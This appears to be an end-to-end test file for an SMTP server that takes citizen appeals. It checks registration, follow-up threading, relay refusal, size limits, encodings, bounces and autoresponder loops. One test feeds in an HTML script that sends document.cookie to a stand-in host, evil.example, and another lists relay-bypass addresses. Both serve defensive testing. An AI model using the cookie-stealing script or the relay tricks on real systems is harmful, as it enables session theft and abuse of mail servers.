/**
 * End to end over SMTP: nodemailer sends to our server, a whole core takes the appeal, the outbound
 * side talks to a real SMTP sink. What the sender is told (250, 451, 550, 552, 554) and what is committed.
 */
import t from 'tap';
import { Appeal, Interaction, Notice, ContactPoint, InteractionAttachment, Attachment } from '@okno/core';
import { startEmailApp, until, CITY_ADDRESS, CITY_DOMAIN } from './test-support/harness.js';
import { rawMessage, baseHeaders, encodeSingleByte, quotedPrintable, base64Lines, bounceReport, smtpDialog } from './test-support/fixtures.js';

const e = await startEmailApp({ config: { maxMessageBytes: 3 * 1024 * 1024, maxAttachmentBytes: 100_000 } });
t.teardown(() => e.stop());
const db = e.app.app.db;
const appealBy = (subject: string) => db.read((em) => em.findOneBy(Appeal, { subject }));
const appealCount = () => db.read((em) => em.count(Appeal));
const smtpError = (p: Promise<unknown>) => p.then(() => null, (err: { responseCode?: number; response?: string }) => err);
const raw = (subject: string, id: string, body: string | Buffer, extra: Record<string, string> = {}, from?: string) =>
  rawMessage({ ...baseHeaders(subject, id, from), 'Content-Type': 'text/plain; charset=utf-8', ...extra }, body);
const sendRaw = (message: Buffer, from = 'petr@example.ru', to: string[] = [CITY_ADDRESS]) => e.send({ envelope: { from, to }, raw: message });

let first: { appealId: number; regNumber: string; noticeMessageId: string };

t.test('a mail is an appeal when 250 comes, with the sender as applicant and the notice sent back', async (t) => {
  const r = await e.send({
    from: '"Иванова Мария" <maria@example.ru>', to: CITY_ADDRESS, subject: 'Яма во дворе', text: 'Во дворе дома 5 яма глубиной полметра.',
    messageId: '<first-1@example.ru>',
  });
  t.match(r.response, /^250 .*appeal \d{2}-\d{6}-\d/);
  const appeal = await appealBy('Яма во дворе');
  t.ok(appeal, 'committed before the 250');
  t.equal(appeal!.channel, 'email');
  t.equal(appeal!.type, 'electronic');
  t.equal(appeal!.status, 'registered');
  t.equal(appeal!.replyChannel, 'email');
  t.equal(appeal!.replyAddress, 'maria@example.ru');
  const contacts = await db.read((em) => em.findBy(ContactPoint, { applicantId: appeal!.applicantId }));
  t.same(contacts.map((c) => c.value), ['maria@example.ru']);
  const inter = await db.read((em) => em.findOneBy(Interaction, { appealId: appeal!.id, direction: 'in' }));
  t.equal(inter!.externalId, '<first-1@example.ru>');
  t.match(inter!.body, /яма глубиной полметра/);
  const notice = await until('the received notice at the sink', () => e.sink.mails.find((m) => m.subject.includes(appeal!.regNumber!)));
  t.equal(notice.envelope.to[0], 'maria@example.ru');
  t.equal(notice.parsed.from?.value[0]?.address, 'centre@city.test');
  t.equal(notice.parsed.headers.get('auto-submitted'), 'auto-replied', 'the notice says it is automatic (no autoresponder loop)');
  t.equal(notice.parsed.inReplyTo, '<first-1@example.ru>', "it threads under the applicant's mail");
  const sent = await until('notice marked sent', () => db.read((em) => em.findOneBy(Notice, { appealId: appeal!.id, kind: 'received', status: 'sent' })));
  const out = await db.read((em) => em.findOneBy(Interaction, { id: sent.interactionId! }));
  t.equal(out!.externalId, notice.parsed.messageId, 'the outbound interaction keeps our Message-ID');
  first = { appealId: appeal!.id, regNumber: appeal!.regNumber!, noticeMessageId: notice.parsed.messageId! };
});

t.test('follow-ups join the appeal: by In-Reply-To, or by the number in the subject from the same sender', async (t) => {
  const before = await appealCount();
  await e.send({ from: 'maria@example.ru', to: CITY_ADDRESS, subject: 'Re: ваше обращение', text: 'Добавляю фото позже', messageId: '<followup-1@example.ru>', inReplyTo: first.noticeMessageId, references: [first.noticeMessageId] });
  await sendRaw(raw(`Дополнение к обращению № ${first.regNumber}`, '<followup-2@example.ru>', 'Яма стала больше', {}, 'Мария <maria@example.ru>'), 'maria@example.ru');
  t.equal(await appealCount(), before, 'no new appeal');
  const ins = await db.read((em) => em.find(Interaction, { where: { appealId: first.appealId, direction: 'in' }, order: { id: 'ASC' } }));
  t.same(ins.map((i) => i.externalId), ['<first-1@example.ru>', '<followup-1@example.ru>', '<followup-2@example.ru>']);
  t.equal(await db.read((em) => em.countBy(Notice, { appealId: first.appealId, kind: 'received' })), 1, 'no second "received" notice');
  // Someone else quoting the number opens their own appeal (the number is not a key to another's case).
  await sendRaw(raw(`По обращению № ${first.regNumber}`, '<stranger-1@example.org>', 'Чужое', {}, 'Чужой <stranger@example.org>'), 'stranger@example.org');
  t.equal(await appealCount(), before + 1);
});

t.test('the same message twice is one appeal, both times answered 250', async (t) => {
  const m = raw('Дважды', '<twice@example.ru>', 'Один раз');
  const a = await sendRaw(m);
  const b = await sendRaw(m);
  t.match(a.response, /^250/);
  t.match(b.response, /^250/);
  t.equal(await db.read((em) => em.countBy(Appeal, { subject: 'Дважды' })), 1);
});

t.test('never an open relay: other recipients are refused with 550 5.7.1', async (t) => {
  const relay = await smtpError(e.send({ from: 'spammer@example.org', to: 'victim@elsewhere.example', subject: 'relay', text: 'x' }));
  t.equal(relay?.responseCode, 550);
  t.match(relay?.response, /^550 5\.7\.1 Relaying denied/);
  for (const to of ['victim%elsewhere.example@appeals.city.test', '@appeals.city.test:victim@elsewhere.example', 'obrashchenie@city.test.elsewhere.example', 'x@sub.appeals.city.test']) {
    const err = await smtpError(e.send({ envelope: { from: 'spammer@example.org', to: [to] }, raw: raw('relay', '<r@x>', 'x') }));
    t.ok(err, `${to} refused`);
  }
  t.equal(await appealBy('relay'), null, 'nothing taken');
  // A whole configured domain is ours, any local part; a mixed list keeps only our recipients.
  const mixed = await e.send({ envelope: { from: 'petr@example.ru', to: [`priemnaya@${CITY_DOMAIN}`, 'victim@elsewhere.example'] }, raw: raw('Смешанные получатели', '<mixed@x>', 'x') });
  t.same(mixed.rejected, ['victim@elsewhere.example']);
  t.ok(await appealBy('Смешанные получатели'));
});

t.test('200 recipients: the first 100 are taken, the rest told 452, one appeal', async (t) => {
  const to = Array.from({ length: 200 }, (_, i) => `r${i}@${CITY_DOMAIN}`);
  const r = await e.send({ envelope: { from: 'petr@example.ru', to }, raw: raw('Двести получателей', '<many@x>', 'x') });
  t.equal(r.rejected.length, 100);
  t.equal(await db.read((em) => em.countBy(Appeal, { subject: 'Двести получателей' })), 1);
});

t.test('size limits: 552 for a message over SIZE and for an attachment over the limit; nothing is kept', async (t) => {
  const big = await smtpError(e.send({ from: 'petr@example.ru', to: CITY_ADDRESS, subject: 'Слишком большое', text: 'x'.repeat(3.5 * 1024 * 1024) }));
  t.equal(big?.responseCode, 552);
  const files = await db.read((em) => em.count(Attachment));
  const att = await smtpError(e.send({ from: 'petr@example.ru', to: CITY_ADDRESS, subject: 'Большое вложение', text: 'см. вложение', attachments: [{ filename: 'скан.pdf', content: Buffer.alloc(150_000, 7) }] }));
  t.equal(att?.responseCode, 552);
  t.match(att?.response, /^552 5\.3\.4 Attachment "скан\.pdf" is larger than the limit of 100000 bytes/);
  t.equal(await appealBy('Слишком большое'), null);
  t.equal(await appealBy('Большое вложение'), null);
  t.equal(await db.read((em) => em.count(Attachment)), files, 'no file stored for a refused mail');
  // Within the limit: stored in the core and linked to the interaction under its name.
  await e.send({ from: 'petr@example.ru', to: CITY_ADDRESS, subject: 'Вложение в пределах', text: 'см. вложение', attachments: [{ filename: 'Справка №5.pdf', content: Buffer.alloc(50_000, 9), contentType: 'application/pdf' }] });
  const appeal = await appealBy('Вложение в пределах');
  const inter = await db.read((em) => em.findOneBy(Interaction, { appealId: appeal!.id }));
  const links = await db.read((em) => em.findBy(InteractionAttachment, { interactionId: inter!.id }));
  t.equal(links.length, 1);
  t.equal(links[0]!.filename, 'Справка №5.pdf');
  const stored = await e.app.app.core.attachments.read(links[0]!.attachmentId);
  t.equal(stored.meta.mime, 'application/pdf');
  t.same(stored.content, Buffer.alloc(50_000, 9));
});

t.test('hostile and odd mail: a clear permanent error or a clean appeal, and the server goes on', async (t) => {
  const huge = await smtpError(sendRaw(raw('Огромный заголовок', '<huge@x>', 'x', { 'X-Junk': 'a'.repeat(1024 * 1024 + 100) })));
  t.equal(huge?.responseCode, 554);
  t.match(huge?.response, /^554 5\.6\.0 the message cannot be parsed/);

  const koi = encodeSingleByte('Прошу убрать снег во дворе, ёлки стоят!', 'koi8-r');
  await sendRaw(raw('КОИ-8', '<koi@x>', quotedPrintable(koi), { 'Content-Type': 'text/plain; charset=koi8-r', 'Content-Transfer-Encoding': 'quoted-printable' }));
  const cp = encodeSingleByte('Не работает лифт в подъезде №2.', 'windows-1251');
  await sendRaw(raw('CP1251', '<cp@x>', base64Lines(cp), { 'Content-Type': 'text/plain; charset=windows-1251', 'Content-Transfer-Encoding': 'base64' }));
  await sendRaw(raw('Неизвестная кодировка', '<unk@x>', 'Plain words', { 'Content-Type': 'text/plain; charset=x-unknown-999' }));
  await sendRaw(raw('Скрипт', '<script@x>', '<p>Просьба</p><script>document.location="https://evil.example/"+document.cookie</script><style>p{}</style>', { 'Content-Type': 'text/html; charset=utf-8' }));
  await sendRaw(raw('Сломанная граница', '<broken@x>', ['--b', 'Content-Type: text/plain; charset=utf-8', '', 'Текст без конца'].join('\n'), { 'Content-Type': 'multipart/mixed; boundary="b"' }));
  const body = async (subject: string) => (await db.read(async (em) => em.findOneBy(Interaction, { appealId: (await em.findOneByOrFail(Appeal, { subject })).id })))!.body;
  t.equal(await body('КОИ-8'), 'Прошу убрать снег во дворе, ёлки стоят!');
  t.equal(await body('CP1251'), 'Не работает лифт в подъезде №2.');
  t.match(await body('Неизвестная кодировка'), /Plain words/);
  t.equal(await body('Скрипт'), 'Просьба');
  t.match(await body('Сломанная граница'), /Текст без конца/);
  const after = await e.send({ from: 'petr@example.ru', to: CITY_ADDRESS, subject: 'После всего', text: 'сервер жив' });
  t.match(after.response, /^250/);
});

t.test('a bounce of our notice is recorded on that outbound message and is not an appeal', async (t) => {
  const before = await appealCount();
  const sent = await db.read((em) => em.findOneByOrFail(Interaction, { externalId: first.noticeMessageId }));
  t.equal(sent.deliveryStatus, 'sent');
  const delayed = await sendRaw(bounceReport({ originalMessageId: first.noticeMessageId, recipient: 'maria@example.ru', action: 'delayed', status: '4.4.1' }), '');
  t.match(delayed.response, /^250 .*Delivery report/);
  t.equal((await db.read((em) => em.findOneByOrFail(Interaction, { id: sent.id }))).deliveryStatus, 'sent', 'a "delayed" report changes nothing');
  const r = await sendRaw(bounceReport({ originalMessageId: first.noticeMessageId, recipient: 'maria@example.ru' }), '');
  t.match(r.response, /^250 .*Delivery report/);
  const after = await db.read((em) => em.findOneByOrFail(Interaction, { id: sent.id }));
  t.equal(after.deliveryStatus, 'bounced');
  t.match(after.deliveryError, /5\.1\.1 .*User unknown/);
  // A report about mail that is not ours is taken (250) and dropped.
  await sendRaw(bounceReport({ originalMessageId: '<someone-else@example.org>', recipient: 'x@example.org' }), '');
  t.equal(await appealCount(), before, 'no appeal from any report');
  const sup = await e.app.token('supervisor');
  const problems = await e.app.req('GET', '/api/deliveries/problems', { token: sup });
  t.ok(problems.body.replies.some((x: { interactionId: number; status: string }) => x.interactionId === sent.id && x.status === 'bounced'), 'supervisors see the bounce');
});

t.test('automatic mail is never answered automatically (no loop with autoresponders)', async (t) => {
  const notices = () => db.read((em) => em.count(Notice));
  const n0 = await notices();
  await sendRaw(raw('Автоответ: Нет на месте', '<ooo-1@example.ru>', 'Я в отпуске до понедельника', { 'Auto-Submitted': 'auto-replied', 'In-Reply-To': first.noticeMessageId }, 'Мария <maria@example.ru>'), 'maria@example.ru');
  const joined = await db.read((em) => em.findOneBy(Interaction, { externalId: '<ooo-1@example.ru>' }));
  t.equal(joined?.appealId, first.appealId, 'an out-of-office answer to our notice joins its appeal');
  await sendRaw(raw('Рассылка', '<list-1@news.example>', 'Новости недели', { Precedence: 'bulk', 'List-Id': '<news.example>' }, 'Новости <news@news.example>'), 'bounces@news.example');
  await sendRaw(raw('Автоответ без ссылки', '<ooo-2@example.org>', 'Меня нет', { 'X-Autoreply': 'yes' }, 'Кто-то <someone@example.org>'), 'someone@example.org');
  for (const subject of ['Рассылка', 'Автоответ без ссылки']) {
    const a = await appealBy(subject);
    t.equal(a?.status, 'received', `${subject}: kept for an operator, not registered`);
    t.equal(a?.regNumber, null);
  }
  t.equal(await notices(), n0, 'no notice was queued for any automatic mail');
});

t.test('SMTP AUTH is off by default and STARTTLS is not offered without a certificate', async (t) => {
  const [greeting, ehlo, auth, mailFrom, rcpt] = await smtpDialog(e.smtpPort, ['EHLO client.example', `AUTH PLAIN ${Buffer.from('\0u\0p').toString('base64')}`, 'MAIL FROM:<a@example.org>', 'RCPT TO:<victim@elsewhere.example>']);
  t.match(greeting, /^220 mx\.city\.test /);
  t.notMatch(ehlo, /AUTH|STARTTLS/, 'neither AUTH nor STARTTLS is offered');
  t.match(ehlo, /SIZE 3145728/, 'the SIZE limit is announced');
  t.match(auth, /^50[0-3] /, 'AUTH is refused');
  t.match(mailFrom, /^250 /);
  t.match(rcpt, /^550 5\.7\.1 Relaying denied: this server takes mail only for obrashchenie@city\.test, \*@appeals\.city\.test$/);
  const { default: nodemailer } = await import('nodemailer');
  const tls = nodemailer.createTransport({ host: '127.0.0.1', port: e.smtpPort, secure: false, requireTLS: true, tls: { rejectUnauthorized: false } });
  const err = await smtpError(tls.sendMail({ from: 'petr@example.ru', to: CITY_ADDRESS, subject: 'tls', text: 'x' }));
  tls.close();
  t.ok(err, 'no STARTTLS (no built-in test certificate is ever used)');
});
